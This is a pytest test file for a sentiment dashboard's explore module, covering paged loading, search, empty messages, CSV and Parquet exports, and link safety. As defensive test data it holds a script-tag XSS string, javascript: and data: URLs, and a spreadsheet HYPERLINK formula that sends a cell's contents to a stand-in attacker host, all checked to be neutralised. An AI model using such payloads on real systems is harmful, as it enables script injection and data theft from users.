"""Explore: loading, search, table and exports."""

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pandas as pd
import pytest

from dashboard.data import explore
from dashboard.data.errors import ServiceError
from dashboard.data.explore import (
    all_of,
    csv_of,
    empty_message,
    engine_scores,
    fields,
    first,
    matches,
    older,
    parquet_of,
    table,
    web_address,
)
from dashboard.data.filters import Filters
from echostream.domain.codec import scored_to_wire
from echostream_client.api import ApiFailed
from tests.builders import scored

NOW = datetime(2026, 5, 21, tzinfo=UTC)
HOSTILE = "<script>alert(1)</script> \u202eback \u200d" + "x" * 10_000


class Api:
    """Documents, newest first, in pages of `limit`; a cursor is an index."""

    def __init__(self, number):
        self.documents = [
            scored_to_wire(scored(f"d{i}", text=f"number {i}")) for i in range(number)
        ]
        self.fails_at = None

    def query(self, limit, cursor=None, **filters):
        self.filters = filters
        at = int(cursor or 0)
        if self.fails_at is not None and at >= self.fails_at:
            raise ApiFailed(500, "oops", "HTTP 500: oops")
        end = at + limit
        rest = str(end) if end < len(self.documents) else None
        return {"documents": self.documents[at:end], "cursor": rest}


def test_documents_are_loaded_page_by_page(monkeypatch):
    """Each document once, in order, to the end or to the limit."""
    monkeypatch.setattr(explore, "MAX_LIMIT", 10)
    monkeypatch.setattr(explore, "MAX_DOCUMENTS", 30)
    api: Any = Api(25)
    steps = list(all_of(api, first(api, Filters(), None, NOW)))
    assert [len(step.documents) for step in steps] == [20, 25]
    assert steps[-1].documents == api.documents
    assert not steps[-1].has_more
    assert not steps[-1].is_cut
    api = Api(45)
    [*_, last] = all_of(api, first(api, Filters(), None, NOW))
    assert last.documents == api.documents[:30]
    assert (last.has_more, last.is_cut) == (False, True)


def test_channel_is_asked_of_the_api():
    """Beside the source and the sentiment."""
    api: Any = Api(1)
    first(api, Filters(source="reddit"), "r/kettles", NOW)
    assert (api.filters["source"], api.filters["channel"]) == ("reddit", "r/kettles")


def test_failed_page_keeps_the_loaded_documents(monkeypatch):
    """`older` raises, and returns the next page when it is called again."""
    monkeypatch.setattr(explore, "MAX_LIMIT", 10)
    api: Any = Api(25)
    loaded = first(api, Filters(), None, NOW)
    api.fails_at = 10
    with pytest.raises(ServiceError, match="HTTP 500"):
        older(api, loaded)
    api.fails_at = None
    assert older(api, loaded).documents == api.documents[:20]


def test_search_covers_text_author_source_and_channel():
    """In any case; an empty term matches every document."""
    documents = Api(12).documents
    assert len(matches(documents, " NUMBER 1 ")) == 3
    assert matches([{**documents[0], "channel": "r/Kettles"}], "kettle") != []
    assert matches(documents, "FORUM") == documents
    assert matches(documents, "ANN") == documents
    assert matches(documents, "") == documents
    assert matches([{**documents[0], "author": None}], "ann") == []


def test_empty_message_names_the_reason():
    """No match of the search, no match of the filters, or no documents at all."""
    api: Any = Api(3)
    loaded = first(api, Filters(), None, NOW)
    assert empty_message(loaded, 3, "", False) == ""
    assert "None of the 3 loaded documents" in empty_message(loaded, 0, "zebra", False)
    api = Api(0)
    empty = first(api, Filters(), None, NOW)
    assert "Choose a longer period" in empty_message(empty, 0, "", True)
    assert "send documents" in empty_message(empty, 0, "", False)


def test_hostile_text_is_exact_in_exports():
    """The table shortens it; the open document, CSV and Parquet have all of it."""
    other = {**scored_to_wire(scored("x")), "engine": "comprehend", "engine_version": "v"}
    document = {**scored_to_wire(scored("d", text=HOSTILE)), "others": [other]}
    assert len(table([document])["text"][0]) < 310
    assert "Neutral" in list(fields(document)["Value"])
    assert document["text"] == HOSTILE
    assert list(engine_scores(document)["Engine"]) == ["vader", "comprehend"]
    [row] = csv.DictReader(io.StringIO(csv_of([document]).decode(), newline=""))
    assert row["text"] == HOSTILE
    assert (row["scores_neutral"], row["comprehend_sentiment"]) == ("1.0", "NEUTRAL")
    frame = pd.read_parquet(io.BytesIO(parquet_of([document])))
    assert frame["text"][0] == HOSTILE
    assert str(frame["created_at"].dtype).startswith("datetime64")
    assert frame["scores_neutral"][0] == 1.0


@pytest.mark.parametrize(
    "url", [None, "", "javascript:alert(1)", "data:text/html,x", "//example.org", "http://[", "x"]
)
def test_unsafe_addresses_are_not_linked(url):
    """Only absolute http and https addresses are links."""
    assert web_address(url) is None


def test_web_addresses_are_linked_unchanged():
    """The address is not rewritten."""
    assert web_address("https://example.org/?q=<b>") == "https://example.org/?q=<b>"


def test_csv_escapes_formulas():
    """A text that begins like a formula gets an apostrophe; numbers stay numbers."""
    document = {
        **scored_to_wire(scored("d")),
        "text": '=HYPERLINK("http://evil.example/?"&A2)',
        "author": "@SUM(1)",
        "compound": -0.5,
    }
    [row] = csv.DictReader(io.StringIO(csv_of([document]).decode(), newline=""))
    assert row["text"] == '\'=HYPERLINK("http://evil.example/?"&A2)'
    assert row["author"] == "'@SUM(1)"
    assert row["compound"] == "-0.5"
